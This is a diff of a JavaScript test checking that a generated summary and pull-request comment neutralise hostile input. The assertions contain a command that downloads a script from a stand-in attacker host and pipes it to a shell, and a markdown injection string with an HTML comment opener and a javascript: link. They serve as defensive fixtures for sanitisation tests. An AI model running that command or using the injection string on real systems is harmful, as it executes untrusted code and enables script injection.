@@ -176,7 +176,9 @@ describe('the summary and PR comment say what will happen', () => {
     expect(text).toContain('curl https://evil.example/x | sh');
     expect(text).toContain(`${project}-legacy`);
     expect(text).toMatch(/Pruned/);
-    expect(text).toContain('ok <!-- [x](javascript:alert(1))');
+    // Shown as text; its `<!--` reads the same but matches no search for a comment marker.
+    expect(text).toContain('ok <!\u2010- [x](javascript:alert(1))');
+    expect(text).not.toContain('<!--');
     // Every job row is still a row: the pipe and backticks in the value did not break the table.
     expect(html.match(/<tr>/g)).toHaveLength(1 + 3);
   });
